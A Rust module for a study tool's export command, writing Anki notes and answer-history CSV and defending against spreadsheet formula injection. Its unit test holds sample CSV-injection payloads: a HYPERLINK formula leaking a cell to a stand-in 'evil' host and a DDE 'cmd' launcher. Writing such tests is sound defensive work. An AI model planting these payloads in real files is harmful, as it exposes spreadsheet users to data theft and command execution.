//! `grill export --format anki|csv`: take the questions or the answers
//! elsewhere. `anki` writes the bank as notes Anki imports (File > Import):
//! the question on the front, the model answer and key points on the back,
//! the topic and difficulty as tags. `csv` writes every stored answer, one
//! row each, with its grade and what each key point earned.
//!
//! Both are built whole in memory by pure functions, then written to stdout
//! or, with `--out`, to a temporary file renamed into place, so a failed
//! export never leaves half a file. Quoting is the `csv` crate's: Anki's text
//! import reads the same rules (a field holding the separator, a newline or
//! a double quote is quoted, its quotes doubled).

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;

use crate::bank::write::{occupied, write_atomic, Access};
use crate::bank::{Bank, Question};
use crate::cli::{ExportArgs, ExportFormat};
use crate::context::Context;
use crate::error::{Error, Result};
use crate::store::{Attempt, SessionKind, Status};
use crate::text::{plural, sanitize};
use crate::ui::render;
use crate::verdict::Coverage;

/// The columns of the Anki file; `TAGS_COLUMN` and `GUID_COLUMN` count from 1.
const ANKI_COLUMNS: [&str; 4] = ["Front", "Back", "Tags", "GUID"];
const TAGS_COLUMN: usize = 3;
const GUID_COLUMN: usize = 4;

/// The columns of the history CSV, in order.
const CSV_COLUMNS: [&str; 15] = [
    "attempt",
    "created_at",
    "session",
    "mode",
    "question",
    "topic",
    "status",
    "grader",
    "score",
    "counted",
    "seconds",
    "cut_off",
    "key_points",
    "mistakes",
    "answer",
];

pub fn run(ctx: &Context, args: &ExportArgs) -> Result<()> {
    if args.allow_formulas && !matches!(args.format, ExportFormat::Csv) {
        return Err(Error::input("--allow-formulas goes with --format csv")
            .with_hint("grill export --format csv --allow-formulas"));
    }
    if let Some(path) = &args.out {
        if !args.force && occupied(path) {
            return Err(Error::input(format!(
                "`{}` already exists; not overwritten",
                path.display()
            ))
            .with_hint("add --force to replace it, or choose another --out"));
        }
    }
    // The text, how much it holds, and what to do with the file.
    let (text, count, next) = match args.format {
        ExportFormat::Anki => {
            let questions = select_questions(ctx.bank()?, &args.topics)?;
            (
                anki(&questions)?,
                plural(questions.len(), "note", "notes"),
                "; import it in Anki with File > Import",
            )
        }
        ExportFormat::Csv => {
            let (attempts, modes) = select_attempts(ctx, &args.topics)?;
            let formulas = if args.allow_formulas {
                Formulas::Keep
            } else {
                Formulas::Neutralise
            };
            (
                history_csv(&attempts, &modes, formulas)?,
                plural(attempts.len(), "answer", "answers"),
                "",
            )
        }
    };
    match &args.out {
        None => {
            let mut out = std::io::stdout().lock();
            out.write_all(text.as_bytes())?;
            out.flush()?;
        }
        Some(path) => {
            write_atomic(path, &text, args.force, Access::Owner)?;
            render::note(&format!("wrote {count} to `{}`{next}", path.display()));
        }
    }
    Ok(())
}

/// The bank's questions, of `topics` if any are named, in bank order.
fn select_questions<'a>(bank: &'a Bank, topics: &[String]) -> Result<Vec<&'a Question>> {
    bank.require_topics(topics)?;
    Ok(bank
        .questions
        .iter()
        .filter(|q| topics.is_empty() || topics.contains(&q.topic))
        .collect())
}

/// The stored answers, oldest first, of `topics` if any are named, with the
/// kind of each session they belong to.
fn select_attempts(
    ctx: &Context,
    topics: &[String],
) -> Result<(Vec<Attempt>, BTreeMap<i64, SessionKind>)> {
    let store = ctx.store()?;
    let mut attempts = store.all_attempts()?;
    attempts.retain(|a| topics.is_empty() || topics.contains(&a.topic));
    // A topic with no answers is only an error if the bank does not know it either.
    let unseen: Vec<String> = topics
        .iter()
        .filter(|t| !attempts.iter().any(|a| &a.topic == *t))
        .cloned()
        .collect();
    if !unseen.is_empty() {
        ctx.bank()?.require_topics(&unseen)?;
    }
    let mut modes = BTreeMap::new();
    let sessions: BTreeSet<i64> = attempts.iter().filter_map(|a| a.session_id).collect();
    for id in sessions {
        if let Some(s) = store.session(id)? {
            modes.insert(id, s.kind);
        }
    }
    Ok((attempts, modes))
}

/// Text from a bank or an answer, safe to write anywhere: Windows line ends
/// made plain, other control characters replaced as everywhere grill prints.
fn clean(text: &str) -> String {
    sanitize(&text.replace("\r\n", "\n"))
}

/// Plain text as HTML for an Anki field: `&`, `<`, `>` escaped, line breaks
/// as `<br>`. Double quotes stay: they are text in HTML, and the file's
/// quoting takes care of them.
fn html(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 16);
    for c in clean(text.trim()).chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\n' => out.push_str("<br>"),
            c => out.push(c),
        }
    }
    out
}

/// One Anki tag: no white space inside, as Anki separates tags by it.
fn tag(parts: &[&str]) -> String {
    parts
        .iter()
        .map(|p| p.split_whitespace().collect::<Vec<_>>().join("_"))
        .collect::<Vec<_>>()
        .join("::")
}

/// The front of a note: the question, and the reminder to tell a story
/// when the question wants one.
fn front(q: &Question) -> String {
    let mut s = html(&q.question);
    if q.wants_example {
        s.push_str("<br><br><i>Include an example from your own work.</i>");
    }
    s
}

/// The back of a note: the model answer, then the key points as a list.
fn back(q: &Question) -> String {
    let mut s = html(&q.model_answer);
    s.push_str("<br><br><b>Key points</b><ul>");
    for kp in &q.key_points {
        s.push_str("<li>");
        s.push_str(&html(&kp.point));
        s.push_str("</li>");
    }
    s.push_str("</ul>");
    s
}

/// Anki's text-import file for `questions`: header lines, then one
/// tab-separated note per question (front, back, tags, guid). The guid is
/// `grill-<id>`, so importing a newer export updates the notes it made
/// instead of adding copies.
pub fn anki(questions: &[&Question]) -> Result<String> {
    let head = format!(
        "#separator:tab\n#html:true\n#notetype:Basic\n#columns:{}\n#tags column:{TAGS_COLUMN}\n#guid column:{GUID_COLUMN}\n",
        ANKI_COLUMNS.join("\t")
    );
    let mut w = csv::WriterBuilder::new()
        .delimiter(b'\t')
        .terminator(csv::Terminator::Any(b'\n'))
        // A note whose first field began with `#` would be read as a header
        // or comment line: the writer quotes any field holding one.
        .comment(Some(b'#'))
        .from_writer(head.into_bytes());
    for q in questions {
        let tags = format!(
            "{} {}",
            tag(&["grill", "topic", &q.topic]),
            tag(&["grill", "difficulty", &q.difficulty.to_string()])
        );
        let guid = format!("grill-{}", q.id);
        w.write_record([front(q), back(q), tags, guid])
            .map_err(|e| export_error(&e))?;
    }
    finish(w)
}

fn coverage_word(c: Coverage) -> &'static str {
    match c {
        Coverage::Covered => "covered",
        Coverage::Partial => "partial",
        Coverage::Missing => "missing",
    }
}

fn status_word(s: Status) -> &'static str {
    match s {
        Status::Ungraded => "ungraded",
        Status::Graded => "graded",
        Status::Skipped => "skipped",
    }
}

/// What each key point earned, as counted: `id=covered;id2=missing`.
fn key_points(a: &Attempt) -> String {
    a.verdict
        .as_ref()
        .map(|v| {
            v.key_points
                .iter()
                .map(|p| format!("{}={}", p.id, coverage_word(p.coverage)))
                .collect::<Vec<_>>()
                .join(";")
        })
        .unwrap_or_default()
}

/// What the CSV does with a cell a spreadsheet would read as a formula.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Formulas {
    /// Prefixed with `'`, which spreadsheets show as text (the default).
    Neutralise,
    /// Written as it is (`--allow-formulas`).
    Keep,
}

/// Whether a spreadsheet could read a cell as a formula: it starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's CSV injection
/// list), or a fullwidth `＝ ＋ － ＠`, which some locales' spreadsheets
/// take for the same.
fn formula_like(cell: &str) -> bool {
    cell.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
    ])
}

/// A cell as `formulas` says: one that starts like a formula gets a `'`
/// first. The answers are often other people's text (`grade --batch` of a
/// cohort), and the file is opened in a spreadsheet.
fn cell(text: String, formulas: Formulas) -> String {
    if formulas == Formulas::Neutralise && formula_like(&text) {
        format!("'{text}")
    } else {
        text
    }
}

/// The history as CSV: a header row, then one row per attempt in the order
/// given. `modes` names the kind of each session. Empty cells for what an
/// attempt does not have (no session, no grade yet).
pub fn history_csv(
    attempts: &[Attempt],
    modes: &BTreeMap<i64, SessionKind>,
    formulas: Formulas,
) -> Result<String> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(CSV_COLUMNS).map_err(|e| export_error(&e))?;
    let num = |x: Option<f64>| x.map(|x| format!("{x:.1}")).unwrap_or_default();
    for a in attempts {
        let mistakes = a
            .verdict
            .as_ref()
            .map(|v| v.mistakes.iter().filter(|m| m.verified).count().to_string())
            .unwrap_or_default();
        let mode = a
            .session_id
            .and_then(|id| modes.get(&id))
            .map_or("", |k| k.as_str());
        let row = [
            a.id.to_string(),
            clean(&a.created_at),
            a.session_id.map(|s| s.to_string()).unwrap_or_default(),
            mode.to_string(),
            clean(&a.question_id),
            clean(&a.topic),
            status_word(a.status).to_string(),
            a.graded_by
                .as_ref()
                .map(|g| clean(&g.label()))
                .unwrap_or_default(),
            num(a.score),
            a.counted_score().is_some().to_string(),
            num(a.seconds),
            a.cut_off.to_string(),
            clean(&key_points(a)),
            mistakes,
            clean(&a.answer),
        ];
        w.write_record(row.map(|c| cell(c, formulas)))
            .map_err(|e| export_error(&e))?;
    }
    finish(w)
}

fn export_error(err: &csv::Error) -> Error {
    Error::failure(format!("cannot write the export: {err}"))
}

fn finish(w: csv::Writer<Vec<u8>>) -> Result<String> {
    let bytes = w
        .into_inner()
        .map_err(|e| Error::failure(format!("cannot write the export: {}", e.error())))?;
    // Every field was a `String`, so the bytes are UTF-8.
    String::from_utf8(bytes).map_err(|e| Error::failure(format!("cannot write the export: {e}")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bank::{Difficulty, KeyPoint};
    use crate::store::GradedBy;
    use crate::verdict::{Mistake, PointVerdict, Verdict};

    fn question(id: &str, text: &str) -> Question {
        Question {
            id: id.into(),
            topic: "rag".into(),
            question: text.into(),
            difficulty: Difficulty::Advanced,
            wants_example: false,
            minutes: 3,
            model_answer: "Use <b> & \"quotes\".\r\nSecond\tline.\n".into(),
            key_points: vec![KeyPoint {
                id: "k".into(),
                point: "a < b".into(),
                weight: 1,
                cues: vec![],
            }],
            sources: vec![],
            reviewed: None,
            follow_up: None,
        }
    }

    fn read_back(text: &str, delimiter: u8) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .has_headers(false)
            .comment(Some(b'#'))
            .from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect()
    }

    #[test]
    fn html_escapes_markup_and_breaks_lines() {
        assert_eq!(
            html("  a <b> & \"c\"\r\nd\u{1b}[2J\n"),
            "a &lt;b&gt; &amp; \"c\"<br>d\u{fffd}[2J"
        );
    }

    #[test]
    fn tags_hold_no_white_space() {
        assert_eq!(
            tag(&["grill", "topic", "my topic"]),
            "grill::topic::my_topic"
        );
    }

    #[test]
    fn an_anki_note_has_four_fields_and_survives_awkward_text() {
        let mut q = question("odd", "# Why\tis \"this\"\nodd?");
        q.wants_example = true;
        let text = anki(&[&q]).unwrap();
        assert!(text.starts_with("#separator:tab\n#html:true\n"), "{text}");
        assert!(text.contains("\n#tags column:3\n"), "{text}");
        assert!(
            text.contains("\n\"# Why\tis \"\"this\"\"<br>odd?"),
            "a field starting with `#` is quoted, its quotes doubled: {text}"
        );
        let rows = read_back(&text, b'\t');
        assert_eq!(rows.len(), 1, "{rows:?}");
        let row = &rows[0];
        assert_eq!(
            row[0],
            "# Why\tis \"this\"<br>odd?<br><br><i>Include an example from your own work.</i>"
        );
        assert_eq!(
            row[1],
            "Use &lt;b&gt; &amp; \"quotes\".<br>Second\tline.<br><br><b>Key points</b><ul><li>a &lt; b</li></ul>"
        );
        assert_eq!(row[2], "grill::topic::rag grill::difficulty::advanced");
        assert_eq!(row[3], "grill-odd");
    }

    fn attempt(id: i64, answer: &str) -> Attempt {
        Attempt {
            id,
            session_id: None,
            question_id: "q".into(),
            topic: "rag".into(),
            answer: answer.into(),
            status: Status::Ungraded,
            graded_by: None,
            verdict: None,
            score: None,
            seconds: None,
            cut_off: false,
            error: None,
            extra: None,
            created_at: "2026-11-05T10:00:00Z".into(),
            graded_at: None,
            usage: None,
        }
    }

    #[test]
    fn cells_that_start_like_a_formula_are_neutralised_unless_kept() {
        let answers = [
            "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "\t=1+1",
            "\u{ff1d}1+1",
        ];
        let all: Vec<Attempt> = (0..).zip(answers).map(|(i, a)| attempt(i, a)).collect();
        let modes = BTreeMap::new();
        let rows = read_back(
            &history_csv(&all, &modes, Formulas::Neutralise).unwrap(),
            b',',
        );
        for (row, answer) in rows[1..].iter().zip(answers) {
            assert_eq!(row[14], format!("'{answer}"));
        }
        let rows = read_back(&history_csv(&all, &modes, Formulas::Keep).unwrap(), b',');
        for (row, answer) in rows[1..].iter().zip(answers) {
            assert_eq!(row[14], answer);
        }
        assert_eq!(cell("a = b".into(), Formulas::Neutralise), "a = b");
    }

    #[test]
    fn a_history_row_carries_the_grade_and_each_point() {
        let point = |id: &str, coverage| PointVerdict {
            id: id.into(),
            coverage,
            claimed: Coverage::Covered,
            evidence: String::new(),
            verified: true,
            weight: 1,
            check: None,
            uncertain: false,
            recovered: false,
        };
        let mut graded = attempt(7, "first, \"quoted\"\nsecond line");
        graded.session_id = Some(3);
        graded.status = Status::Graded;
        graded.graded_by = Some(GradedBy::Estimate);
        graded.score = Some(5.0);
        graded.seconds = Some(42.25);
        graded.verdict = Some(Verdict {
            score: 5.0,
            key_points: vec![point("a", Coverage::Covered), point("b", Coverage::Missing)],
            mistakes: vec![
                Mistake {
                    quote: "x".into(),
                    correction: "y".into(),
                    verified: true,
                },
                Mistake {
                    quote: "z".into(),
                    correction: "w".into(),
                    verified: false,
                },
            ],
            ..Verdict::default()
        });
        let modes = BTreeMap::from([(3, SessionKind::Interview)]);
        let text = history_csv(&[graded, attempt(8, "")], &modes, Formulas::Neutralise).unwrap();
        let rows = read_back(&text, b',');
        assert_eq!(rows[0], CSV_COLUMNS);
        assert_eq!(
            rows[1],
            [
                "7",
                "2026-11-05T10:00:00Z",
                "3",
                "interview",
                "q",
                "rag",
                "graded",
                "cues",
                "5.0",
                "false",
                "42.2",
                "false",
                "a=covered;b=missing",
                "1",
                "first, \"quoted\"\nsecond line"
            ]
        );
        assert_eq!(
            rows[2],
            [
                "8",
                "2026-11-05T10:00:00Z",
                "",
                "",
                "q",
                "rag",
                "ungraded",
                "",
                "",
                "false",
                "",
                "false",
                "",
                "",
                ""
            ]
        );
    }
}
